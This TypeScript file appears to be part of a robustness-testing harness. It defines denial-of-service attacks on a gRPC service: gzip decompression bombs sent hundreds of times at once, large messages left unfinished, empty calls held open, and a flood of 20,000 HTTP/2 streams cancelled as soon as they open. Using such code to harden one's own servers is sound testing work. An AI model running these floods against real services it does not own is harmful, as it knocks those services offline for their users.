import { type ClientHttp2Session, connect, constants } from 'node:http2';
import { gzipSync } from 'node:zlib';
import type { Attack } from './attacks.ts';
import type { Response, Target } from './target.ts';

const MEGABYTE = 1024 * 1024;
const SEND = '/lf.a2a.v1.A2AService/SendMessage';
/** Statuses of gRPC that are the server's own fault: UNKNOWN, INTERNAL. */
const FAULTS = ['2', '13'];
/** Milliseconds after which a call that got nothing is given up. */
const PATIENCE = 5_000;

/** A message with its head; `isPacked`: with gzip. */
function framed(message: Uint8Array, isPacked = false): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(isPacked ? 1 : 0);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

async function session(target: Target): Promise<ClientHttp2Session> {
  // The client itself is to hold nothing back.
  const opened = connect(`http://${target.grpcAddress}`, { maxSessionMemory: 4096 });
  opened.on('error', () => {});
  await new Promise((resolve) => opened.once('remoteSettings', resolve));
  return opened;
}

interface Sent {
  readonly bytes: Uint8Array;
  /** Default: a send. */
  readonly path?: string | undefined;
  readonly encoding?: string | undefined;
  /** The call is ended after these bytes. Default: true. */
  readonly ends?: boolean | undefined;
}

/** One call. Resolves with its status; with none where it was reset, or nothing came. */
function call(opened: ClientHttp2Session, { bytes, path = SEND, encoding, ends = true }: Sent): Promise<Response> {
  return new Promise((resolve) => {
    const stream = opened.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...(encoding !== undefined && { 'grpc-encoding': encoding }),
    });
    let status: string | undefined;
    let text = '';
    const note = ({ 'grpc-status': code, 'grpc-message': message }: Readonly<Record<string, unknown>>) => {
      if (typeof code !== 'string') return;
      status = code;
      text = typeof message === 'string' ? message : '';
    };
    stream.on('response', note);
    stream.on('trailers', note);
    stream.on('error', () => {});
    stream.resume();
    const tired = setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), PATIENCE);
    stream.once('close', () => {
      clearTimeout(tired);
      resolve({ status: status !== undefined && FAULTS.includes(status) ? 500 : 200, text });
    });
    if (ends) stream.end(bytes);
    else stream.write(bytes);
  });
}

/** So many calls at once, on one connection. */
const calls = (name: string, memory: number, count: number, sent: (size: number) => Sent): Attack => ({
  name,
  memory,
  prepare: async (target, size) => {
    const each = sent(size);
    return async () => {
      const opened = await session(target);
      const responses = await Promise.all(Array.from({ length: count }, () => call(opened, each)));
      opened.destroy();
      return responses;
    };
  },
});

export const GRPC_ATTACKS: readonly Attack[] = [
  calls('gzip over gRPC that becomes 500 MB, ten times', 150, 10, (size) => ({
    bytes: framed(gzipSync(Buffer.alloc(500 * MEGABYTE * size)), true),
    encoding: 'gzip',
  })),
  ...[SEND, '/grpc.health.v1.Health/Check'].map((path) =>
    calls(`gzip that becomes 15.9 MB, 300 times at once, ${path}`, 900, 300, () => ({
      bytes: framed(gzipSync(Buffer.alloc(15.9 * MEGABYTE)), true),
      encoding: 'gzip',
      path,
    })),
  ),
  calls('60 messages of 15.9 MB over gRPC, never finished', 600, 60, (size) => ({
    bytes: framed(Buffer.alloc(15.9 * MEGABYTE * size)).subarray(0, -1),
    ends: false,
  })),
  calls('900 calls over gRPC that send nothing', 100, 900, () => ({ bytes: Buffer.alloc(0), ends: false })),
  {
    name: '20,000 calls over gRPC that are given up at once',
    memory: 200,
    prepare: async (target, size) => async () => {
      const opened = await session(target);
      // A server may close the connection of somebody who does that.
      for (let count = 0; count < 20_000 * size && !opened.destroyed; count += 1) {
        const stream = opened.request({ ':method': 'POST', ':path': SEND, 'content-type': 'application/grpc' });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        if (count % 200 === 0) await new Promise((resolve) => setImmediate(resolve));
      }
      opened.destroy();
      return [];
    },
  },
];
